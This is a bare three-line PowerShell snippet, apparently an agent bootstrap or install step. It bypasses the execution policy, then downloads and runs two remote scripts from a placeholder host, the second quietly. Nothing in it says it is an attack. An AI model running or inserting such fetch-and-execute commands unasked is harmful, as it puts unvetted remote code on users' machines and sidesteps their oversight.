Set-ExecutionPolicy Bypass -Scope Process -Force
iex ((New-Object System.Net.WebClient).DownloadString('https://agents.example.com/bootstrap.ps1'))
& ([scriptblock]::Create((irm https://agents.example.com/post.ps1))) -Quiet
